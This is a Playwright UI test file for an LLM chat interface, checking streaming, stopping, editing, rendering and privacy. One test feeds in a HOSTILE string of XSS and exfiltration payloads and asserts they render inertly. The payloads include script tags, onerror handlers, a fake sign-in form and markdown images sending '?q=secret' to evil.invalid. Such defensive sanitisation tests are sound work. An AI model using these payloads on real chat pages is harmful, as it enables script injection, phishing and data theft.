"""The Chat tab, used as people use it."""

from __future__ import annotations

import re
import time
from typing import TYPE_CHECKING

from playwright.sync_api import expect

from tests.fault_server import REASONING, answer_text
from tests.ui.chat_page import ChatPage
from tests.ui.conftest import KEY, visiting

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from tests.fault_server import Exchange, FaultServerThread
    from tests.ui.echo_server import EchoServer
    from tests.ui.site import Site

GROWS = """() => {
  window.states = new Set();
  const live = document.querySelector("#chat-live");
  new MutationObserver(() => {
    const answer = live.querySelector("[data-testid=bot]");
    if (answer) window.states.add(answer.innerText);
  }).observe(live, {childList: true, subtree: true, characterData: true});
}"""


def chats(fault_server: FaultServerThread, model: str) -> list[Exchange]:
    return [exchange for exchange in fault_server.exchanges if exchange.model == model and exchange.method == "POST"]


def begun(fault_server: FaultServerThread, model: str) -> Exchange:
    """The chat with this model, once its answer has begun."""
    exchange = fault_server.wait_for(
        lambda log: next((e for e in log if e.model == model and e.method == "POST" and e.status), None)
    )
    assert exchange is not None
    return exchange


def test_an_answer_grows_while_it_comes_and_then_stands_in_the_log(chat: ChatPage) -> None:
    chat.choose("ok?tokens=80&rate=60")
    chat.page.evaluate(GROWS)
    chat.ask("Hello")
    states = chat.page.evaluate("[...window.states].map(state => state.length)")
    assert len([size for size in states if size]) >= 5
    assert states == sorted(states)
    expect(chat.answers).to_have_text([answer_text(80)])
    expect(chat.prompts).to_have_text(["Hello"])
    expect(chat.live).to_be_hidden()
    expect(chat.prompt).to_have_value("")


def test_the_list_of_models_comes_live_and_a_custom_name_is_taken(chat: ChatPage) -> None:
    chat.choose("gpt-6-luna")
    chat.page.locator("#chat-model input").click()
    expect(chat.page.get_by_role("option", name="gpt-6.2-sol", exact=True)).to_be_visible()
    chat.page.keyboard.press("Escape")
    chat.choose("ok?tokens=3")
    chat.ask("Hello")
    expect(chat.answers).to_have_text([answer_text(3)])


def test_stop_keeps_the_text_and_closes_the_connection_within_a_second(
    chat: ChatPage, fault_server: FaultServerThread
) -> None:
    model = "ok?tokens=2000&rate=50&stop=1"
    chat.choose(model)
    chat.type("Hello")
    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku cepo vavi")
    stopped = time.monotonic()
    chat.stop.click()
    exchange = begun(fault_server, model)
    fault_server.wait_ended(exchange)
    assert exchange.client_left
    assert exchange.closed is not None
    assert exchange.closed - stopped < 1
    expect(chat.figures).to_contain_text("stopped")
    expect(chat.answers).to_contain_text("fiku cepo vavi")


def test_stop_works_while_the_provider_is_silent(chat: ChatPage, fault_server: FaultServerThread) -> None:
    model = "stall@first?stop=2"
    chat.choose(model)
    chat.type("Hello")
    exchange = begun(fault_server, model)
    expect(chat.page.locator("#chat-route")).to_contain_text(re.compile(r"Waiting for .*2 s"))
    stopped = time.monotonic()
    chat.stop.click()
    fault_server.wait_ended(exchange)
    assert exchange.closed is not None
    assert exchange.closed - stopped < 1
    expect(chat.figures).to_contain_text("stopped")
    expect(chat.prompts).to_have_text(["Hello"])


def test_a_closed_tab_ends_no_answer_and_the_next_one_finds_it(chat: ChatPage, site: Site) -> None:
    chat.choose("ok?tokens=150&rate=50&tab=1")
    chat.type("Hello")
    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
    chat.page.wait_for_function("location.search.includes('?c=')")
    again = chat.page.context.new_page()
    again.goto(chat.page.url)
    chat.page.goto("about:blank")
    expect(again.locator("#chat-log [data-testid=bot]").first).to_contain_text(answer_text(150), timeout=30_000)
    again.close()


def test_regenerate_edit_undo_and_new_chat(chat: ChatPage, fault_server: FaultServerThread) -> None:
    model = "ok?tokens=4&rate=100&turns=1"
    chat.choose(model)
    chat.ask("One")
    chat.ask("Two")
    chat.log.get_by_label("Retry").click()
    fault_server.wait_for(lambda _: len(chats(fault_server, model)) == 3)
    expect(chat.stop).to_be_hidden()
    expect(chat.prompts).to_have_text(["One", "Two"])
    assert chats(fault_server, model)[1].body["messages"] == chats(fault_server, model)[2].body["messages"]

    chat.prompts.first.hover()
    chat.log.get_by_label("Edit").first.click()
    chat.log.locator("textarea").fill("One, edited")
    chat.log.get_by_label("Submit").click()
    expect(chat.prompts).to_have_text(["One, edited"])
    expect(chat.figures).to_have_count(1)
    assert chats(fault_server, model)[-1].body["messages"] == [{"role": "user", "content": "One, edited"}]

    chat.log.get_by_role("button", name="Undo").dblclick()
    expect(chat.prompts).to_have_count(0)
    expect(chat.prompt).to_have_value("One, edited")

    chat.ask("Again")
    chat.page.get_by_role("button", name="New chat").click()
    expect(chat.prompts).to_have_count(0)
    expect(chat.log).to_contain_text("What would you like to know?")


def test_a_new_chat_may_begin_while_an_answer_is_still_coming(chat: ChatPage, fault_server: FaultServerThread) -> None:
    for number in range(3):
        chat.choose(f"ok?tokens=2000&rate=50&new={number}")
        chat.type("Hello")
        expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
        chat.page.get_by_role("button", name="New chat").click()
        expect(chat.stop).to_be_hidden()
        expect(chat.prompts).to_have_count(0)
        expect(chat.live).to_be_hidden()
    chat.choose("ok?tokens=2")
    chat.ask("Hello")
    expect(chat.prompts).to_have_text(["Hello"])


def test_a_second_prompt_does_not_end_an_answer_that_was_asked_for_again(chat: ChatPage) -> None:
    chat.choose("ok?tokens=400&rate=100&twice=1")
    chat.type("First")
    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
    chat.stop.click()
    chat.log.get_by_label("Retry").last.click()
    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
    chat.type("Second")
    expect(chat.hint).to_contain_text("still being written")
    expect(chat.prompt).to_have_value("Second")
    expect(chat.stop).to_be_visible()
    chat.page.keyboard.press("Escape")
    expect(chat.stop).to_be_hidden()
    expect(chat.prompts).to_have_text(["First"])
    expect(chat.prompt).to_be_focused()


TYPED = "edit __init__.py, 2*3*4 and <b> &lt; $$x$$\n# no heading\n\n  1986. A year \u200b"


def test_a_prompt_is_shown_copied_and_edited_as_it_was_typed(chat: ChatPage, fault_server: FaultServerThread) -> None:
    chat.choose("ok?tokens=3&edited=1")
    for text in (TYPED, "![i](u) " * 2000):
        chat.ask(text)
        prompt = chat.prompts.last
        prompt.hover()
        chat.log.locator(".message-buttons-right").last.get_by_label("Copy message").click()
        expect(chat.page.get_by_label("Copied message").last).to_be_visible()
        assert chat.page.evaluate("navigator.clipboard.readText()") == text
        size = prompt.bounding_box()
        chat.log.get_by_role("button", name="Edit").last.click()
        box = chat.log.locator("textarea")
        expect(box).to_have_value(text)
        room = box.bounding_box()
        assert size is not None
        assert room is not None
        assert room["width"] >= 0.8 * size["width"]
        assert room["height"] >= 100
        chat.page.keyboard.press("Escape")
        expect(box).to_have_count(0)
        expect(chat.prompt).to_be_focused()
    assert chat.prompts.first.inner_text() == TYPED.replace("\u200b", "")
    chat.prompts.first.hover()
    chat.log.get_by_role("button", name="Edit").first.click()
    chat.log.locator("textarea").press("Control+End")
    chat.page.keyboard.type("!")
    chat.log.get_by_label("Submit").click()
    fault_server.wait_for(lambda _: len(chats(fault_server, "ok?tokens=3&edited=1")) == 3)
    sent = chats(fault_server, "ok?tokens=3&edited=1")[-1].body["messages"]
    assert [message["content"] for message in sent] == [f"{TYPED}!"]


def test_a_reload_brings_a_working_page(chat: ChatPage) -> None:
    chat.choose("ok?tokens=2000&rate=50&reload=1")
    chat.type("Hello")
    expect(chat.live.locator("[data-testid=bot]")).to_contain_text("fiku")
    chat.open()
    # Gradio itself logs the connections that a reload ends.
    chat.complaints = [text for text in chat.complaints if not text.startswith(("Unexpected error", "AbortError"))]
    chat.choose("ok?tokens=3")
    chat.ask("Hello again")
    expect(chat.answers).to_have_text([answer_text(3)])


def test_an_error_stands_in_the_answers_place_and_try_again_asks_again(
    chat: ChatPage, fault_server: FaultServerThread
) -> None:
    chat.choose("status-503?again=1")
    chat.ask("Will this work?")
    problem = chat.log.locator(".problem")
    expect(problem).to_contain_text("OpenAI")
    expect(problem).to_contain_text("The fault server says 503.")
    expect(chat.prompts).to_have_text(["Will this work?"])
    expect(chat.figures).to_contain_text("no answer")
    chat.choose("ok?tokens=2")
    chat.log.get_by_role("button", name="Try again").click()
    expect(chat.answers).to_have_text([answer_text(2)])
    expect(chat.prompts).to_have_text(["Will this work?"])
    # A prompt that is refused holds up no other: not for the three seconds that a shown one may take.
    chat.page.evaluate(
        "window.setTimeout = ((later) => (act, ms, arg) => ms !== 3000 && later(act, ms, arg))(setTimeout)"
    )
    temperature = chat.page.locator("#chat-temperature textarea")
    temperature.fill("warm")
    chat.type("And this?")
    expect(chat.hint).to_contain_text("Temperature is a number")
    expect(chat.prompt).to_have_value("And this?")
    temperature.fill("")
    chat.prompt.press("Enter")
    expect(chat.prompts).to_have_text(["Will this work?", "And this?"])


def test_reasoning_is_collapsed_once_the_answer_stands(chat: ChatPage) -> None:
    chat.choose("reasoning?tokens=5&rate=30")
    chat.ask("Think")
    thought = chat.log.locator(".thought-group")
    expect(thought).to_contain_text(re.compile(r"Reasoning\s*\(.*s\)"))
    expect(thought).not_to_contain_text("think about that")
    thought.get_by_role("button").first.click()
    expect(thought).to_contain_text("".join(REASONING))


def test_a_megabyte_is_sent_and_shown_in_short(chat: ChatPage, echo_server: EchoServer) -> None:
    prompt = "long " * 200_000
    chat.choose("echo", provider="echo")
    chat.type(prompt)
    expect(chat.figures).to_have_count(1, timeout=30_000)
    assert echo_server.bodies[-1]["messages"][-1]["content"].strip() == prompt.strip()
    expect(chat.prompts).to_contain_text("1,000,000 characters in all")
    assert len(chat.prompts.inner_text()) < 10_000


def test_an_image_reaches_the_model(chat: ChatPage, echo_server: EchoServer, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from PIL import Image

    file = tmp_path / "red.png"
    Image.new("RGB", (32, 32), "red").save(file)
    chat.choose("echo", provider="echo")
    chat.page.locator("#chat-prompt input[type=file]").set_input_files(file)
    expect(chat.page.locator("#chat-prompt img")).to_be_visible()
    chat.ask("What is this?")
    parts = echo_server.bodies[-1]["messages"][-1]["content"]
    assert {part["type"] for part in parts} == {"text", "image_url"}
    expect(chat.log.locator("[data-testid=user] img")).to_be_visible()


def test_markdown_code_and_formulas_are_set(chat: ChatPage) -> None:
    chat.choose("echo", provider="echo")
    code = "  if x:\n\tprint(List[int] < 3)"
    formulas = "$$a<b$$, \\(x^2\\), $\\frac{1}{2}$, \\(\\text{a_b}\\) and\n\n\\[y_1\\]"
    chat.ask(f"**bold** $$\\frac{{a}}{{$$\n\n```python\n{code}\n```\n\n{formulas}\n\n`<form>` of <https://a.example/b>")
    answer = chat.answers
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer).to_contain_text("bold $$\\frac{a}{$$")
    expect(answer.locator("pre code")).to_contain_text("print(List[int] < 3)")
    expect(answer.locator(".katex")).to_have_count(4)
    mistake = answer.locator(".katex-error")
    expect(mistake).to_have_text("\\text{a_b}")
    color = mistake.locator("xpath=..").evaluate("(text) => getComputedStyle(text).color")
    expect(mistake).to_have_css("color", color)
    expect(answer.locator("p code")).to_have_text("<form>")
    expect(answer.locator("a")).to_have_attribute("href", "https://a.example/b")
    answer.locator("pre").locator("xpath=..").get_by_role("button").first.click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == code
    answer.locator("pre code").evaluate("(code) => getSelection().selectAllChildren(code)")
    chat.page.keyboard.press("Control+c")
    assert chat.page.evaluate("navigator.clipboard.readText()").rstrip("\n") == code


def test_scripts_tables_and_paper(chat: ChatPage) -> None:
    chat.choose("echo", provider="echo")
    table = "| tea | $2 |\n|---|--:|\n| one<br>two | x |"
    text = (
        f"\u0645\u0631\u062d\u0628\u0627 `$$`\n\n{table}\n\n```python\n# quiet\nx = 1\n```\n\n"
        f"1. \u0645\u0631\u062d\u0628\u0627\n\nSo 2*3*4 or __init__:\n\n- [x] done\n\n`{'0' * 900}`\n\n"
        + "A long line.\n\n"
        * 120
    )
    chat.ask(text)
    answer = chat.answers
    expect(answer.locator("p").first).to_have_css("unicode-bidi", "plaintext")
    expect(answer.locator("p").first).to_have_css("text-align", "start")
    expect(answer.locator("ol")).to_have_css("direction", "rtl")
    expect(answer.locator("ul")).to_have_css("direction", "ltr")
    expect(answer.locator(":checked")).not_to_have_css("background-color", "rgba(0, 0, 0, 0)")
    expect(answer).to_contain_text("So 2*3*4 or __init__:")
    expect(answer.locator("td").nth(1)).to_have_css("text-align", "right")
    expect(answer.locator("td br")).to_have_count(1)
    expect(answer.locator(".token.comment")).to_have_css("color", "rgb(75, 85, 99)")
    assert chat.page.pdf().count(b"/Type /Page\n") >= 3
    chat.page.emulate_media(media="print")
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    chat.page.emulate_media(media="screen")
    chat.log.locator(".message-buttons-left").first.get_by_label("Copy message").click()
    expect(chat.page.get_by_label("Copied message").first).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == text


def test_copy_gives_the_answer_and_nothing_else(chat: ChatPage) -> None:
    chat.choose("ok?tokens=5")
    chat.ask("Hello")
    chat.log.locator(".bot-row").first.locator("xpath=following-sibling::*[1]").get_by_label("Copy message").click()
    expect(chat.page.get_by_label("Copied message").first).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == answer_text(5)


HOSTILE = """Hello <img src="http://evil.invalid/a.png?q=secret" onerror="window.pwned=1">
<script>window.pwned=1</script>
<form action="http://evil.invalid/"><input name="password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div>
<svg onload="window.pwned=1"></svg><iframe src="http://evil.invalid/"></iframe>
<style>#chat-prompt{display:none}</style><base href="http://evil.invalid/">
![leak](http://evil.invalid/b.png?q=secret) ![leak][ref] [click](javascript:window.pwned=1)

[ref]: http://evil.invalid/c.png

- ```
  code
  ```
<form id="f1"></form>

> ```
<form id="f2"></form>

| a ` | <form id="f3"></form> ` |
|---|---|

\\` <form id="f4"></form> `

$$ ` $$ <form id="f5"></form> `
"""


def test_what_a_model_says_stays_text(chat: ChatPage) -> None:
    chat.choose("echo", provider="echo")
    chat.ask(HOSTILE)
    expect(chat.answers).to_contain_text("position:fixed")
    assert chat.page.evaluate("window.pwned") is None
    for tag in ("form", "script", "iframe", "img", "style", "base", "svg[onload]", "[style*=fixed]"):
        assert chat.log.locator(f".md {tag}").count() == 0, tag
    assert chat.log.locator(".md a[href^=javascript]").count() == 0
    chat.choose("ok?tokens=2", provider="OpenAI")
    chat.ask("Nothing covers the page.")
    expect(chat.prompts).to_have_count(2)


def test_nothing_that_was_typed_stays_in_the_browsers_storage(chat: ChatPage) -> None:
    chat.choose("ok?tokens=2")
    chat.ask("A prompt that is nobody's business")
    stored = chat.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
    assert "nobody's business" not in stored
    assert KEY not in stored


def test_five_hundred_tokens_a_second_are_shown_without_delay(chat: ChatPage, fault_server: FaultServerThread) -> None:
    last = answer_text(1500).split()[-1]
    behind = []
    for number in range(4):  # a busy machine may be late once; a page that cannot keep up is late every time
        model = f"ok?tokens=1500&rate=500&number={number}"
        chat.choose(model)
        chat.type("Hello")
        is_shown = "([last, times]) => document.querySelector('#chat-scroll').innerText.split(last).length > times"
        chat.page.wait_for_function(is_shown, arg=[last, number + 1], timeout=20_000)
        behind.append(time.monotonic() - begun(fault_server, model).token_times[-1])
        expect(chat.stop).to_be_hidden()
        if behind[-1] < 0.5:
            return
    raise AssertionError(behind)


def test_a_narrow_screen_has_everything_in_reach(browser: Browser, site: Site) -> None:
    with visiting(browser, ChatPage, site.url, 375, 667) as chat:
        page = chat.page
        chat.choose("ok?tokens=300")
        chat.ask("Hello")
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
        chat.choose("ok?text=markdown&wide=1")
        chat.ask("W" * 400)
        box = page.locator("#chat-prompt").bounding_box()
        assert box is not None
        assert box["y"] + box["height"] <= 667
        assert box["x"] + box["width"] <= 375
        page.get_by_role("button", name="Settings").click()
        expect(page.get_by_label("Temperature")).to_be_visible()
